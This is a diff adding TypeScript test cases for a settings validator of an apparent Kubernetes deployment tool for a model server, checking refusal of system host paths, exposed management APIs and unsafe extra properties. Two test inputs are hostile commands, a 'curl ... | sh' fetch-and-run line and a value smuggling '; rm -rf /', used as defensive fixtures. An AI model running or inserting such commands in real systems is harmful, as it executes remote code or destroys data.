@@ -186,6 +186,82 @@ describe("resolveSettings", () => {
         ],
         ["startup budget too small", { startupTimeoutSeconds: 1 }, "startupTimeoutSeconds", /10 to 3600/],
         ["empty image", { image: " " }, "image", /image reference/],
+        // The node's system directories are no model store.
+        ["host path at the root", { modelStoreHostPath: "/" }, "modelStoreHostPath", /is \/ itself/],
+        ["host path in /etc", { modelStoreHostPath: "/etc/models" }, "modelStoreHostPath", /inside \/etc, a system/],
+        ["host path of the kubelet", { modelStoreHostPath: "/var/lib/kubelet/pods" }, "modelStoreHostPath", /kubelet/],
+        ["host path reaching /usr", { modelStoreHostPath: "/data/../usr/lib" }, "modelStoreHostPath", /inside \/usr/],
+        ["host path /var/run", { modelStoreHostPath: "/var/run/" }, "modelStoreHostPath", /is \/var\/run,/],
+        // Keys that undo the hardening need the opt-in.
+        [
+            "a command the server runs",
+            { extraProperties: { system_metrics_cmd: "curl -s http://x | sh" } },
+            "extraProperties.system_metrics_cmd",
+            /command of your choice.*undoes the stack's hardening/,
+        ],
+        [
+            "environment variables over the file",
+            { extraProperties: { enable_envvars_config: "true" } },
+            "extraProperties.enable_envvars_config",
+            /TS_\* environment variables override/,
+        ],
+        [
+            "worker launcher arguments",
+            { extraProperties: { cpu_launcher_args: "--x; rm -rf /" } },
+            "extraProperties.cpu_launcher_args",
+            /arbitrary arguments/,
+        ],
+        [
+            "model URLs",
+            { extraProperties: { allowed_urls: "https://.*" } },
+            "extraProperties.allowed_urls",
+            /load model archives from/,
+        ],
+        [
+            "gRPC management beyond loopback",
+            { extraProperties: { grpc_management_address: "0.0.0.0" } },
+            "extraProperties.grpc_management_address",
+            /gRPC management API/,
+        ],
+        // Who reaches the management API, and what token authorization can do.
+        [
+            "management on a LoadBalancer without token auth",
+            { serviceType: "LoadBalancer", exposeManagement: true },
+            "exposeManagement",
+            /LoadBalancer Service without token authorization/,
+        ],
+        ["token auth with two replicas", { tokenAuth: true }, "tokenAuth", /2 pods: each pod generates its own keys/],
+        [
+            "token auth with an autoscaler",
+            { tokenAuth: true, replicas: 1, autoscaleMaxReplicas: 3 },
+            "tokenAuth",
+            /3 pods/,
+        ],
+        [
+            "inference namespaces behind a LoadBalancer",
+            { serviceType: "LoadBalancer", inferenceFromNamespaces: ["apps"] },
+            "inferenceFromNamespaces",
+            /outside the cluster would be refused/,
+        ],
+        [
+            "bad inference namespace",
+            { inferenceFromNamespaces: ["ok", "Bad_NS"] },
+            "inferenceFromNamespaces[1]",
+            /namespace/,
+        ],
+        ["bad scraper namespace", { metricsScraperNamespace: "Prometheus" }, "metricsScraperNamespace", /namespace/],
+        // Availability and resources.
+        [
+            "autoscaler below replicas",
+            { autoscaleMaxReplicas: 2 },
+            "autoscaleMaxReplicas",
+            /larger than replicas \(2\)/,
+        ],
+        ["autoscaler target of 0%", { autoscaleCpuPercent: 0 }, "autoscaleCpuPercent", /1 to 100/],
+        ["unknown spread mode", { spreadReplicas: "always" }, "spreadReplicas", /preferred, required, off/],
+        ["bad ephemeral base", { ephemeralStorageBase: "lots" }, "ephemeralStorageBase", /quantity/],
+        ["ephemeral limit below base", { ephemeralStorageLimit: "100Mi" }, "ephemeralStorageLimit", /smaller than/],
+        ["negative start margin", { podStartMarginSeconds: -1 }, "podStartMarginSeconds", /0 to 3600/],
     ];
 
     for (const [name, overrides, key, problem] of badConfigs) {
@@ -200,6 +276,59 @@ describe("resolveSettings", () => {
             assert.match(error.message, new RegExp(key.replace(/[[\].]/g, "\\$&")));
         });
     }
+
+    it("defaults to the hardened settings: loopback management, policies, read-only root, no unsafe extras", () => {
+        const s = resolveSettings(base.args, realFiles);
+        assert.equal(s.service.networkPolicy, true);
+        assert.deepEqual(s.service.inferenceFromNamespaces, []);
+        assert.equal(s.service.metricsScraperNamespace, "monitoring");
+        assert.equal(s.server.readOnlyRootFilesystem, true);
+        assert.equal(s.server.allowUnsafeExtraProperties, false);
+        assert.equal(s.server.podStartMarginSeconds, 120);
+        assert.deepEqual(s.server.ephemeralStorage, { base: "1Gi" });
+        assert.deepEqual(s.availability, { podDisruptionBudget: true, spreadReplicas: "preferred" });
+        assert.equal(s.secretConfig, false);
+    });
+
+    it("accepts the unsafe keys with the explicit opt-in, and safe values without it", () => {
+        const unsafe = { system_metrics_cmd: "metrics.sh", allowed_urls: "https://models.example/.*" };
+        assert.deepEqual(
+            resolveSettings({ ...base.args, extraProperties: unsafe, allowUnsafeExtraProperties: true }, realFiles)
+                .server.extraProperties,
+            unsafe,
+        );
+        const safe = { grpc_management_address: "127.0.0.1", enable_envvars_config: "false" };
+        assert.deepEqual(
+            resolveSettings({ ...base.args, extraProperties: safe }, realFiles).server.extraProperties,
+            safe,
+        );
+    });
+
+    it("accepts management on a LoadBalancer with token authorization and one pod, and an autoscaler", () => {
+        const open = resolveSettings(
+            { ...base.args, serviceType: "LoadBalancer", exposeManagement: true, tokenAuth: true, replicas: 1 },
+            realFiles,
+        );
+        assert.equal(open.service.exposeManagement, true);
+        const scaled = resolveSettings({ ...base.args, autoscaleMaxReplicas: 6, autoscaleCpuPercent: 60 }, realFiles);
+        assert.deepEqual(scaled.availability.autoscale, { maxReplicas: 6, cpuPercent: 60 });
+    });
+
+    it("keeps secrets only where they stay secret: extraProperties, whose file then goes into a Secret", () => {
+        const withSecret = resolveSettings({ ...base.args, extraProperties: { keystore_pass: "hunter2" } }, realFiles, [
+            "extraProperties",
+        ]);
+        assert.equal(withSecret.secretConfig, true);
+        assert.equal(resolveSettings(base.args, realFiles, ["extraProperties"]).secretConfig, false, "no entry");
+        assert.throws(
+            () => resolveSettings(base.args, realFiles, ["modelVersion", "extraProperties"]),
+            (e: ConfigValidationError) =>
+                e.problems.length === 1 &&
+                e.problems[0].key === "modelVersion" &&
+                /is set as a secret, but its value ends up in plain text/.test(e.problems[0].problem) &&
+                /without --secret/.test(e.problems[0].fix),
+        );
+    });
 
     it("reports every problem at once", () => {
         const error = problemsOf({ modelName: "", archiveKeep: 0, inferencePort: 8081 });
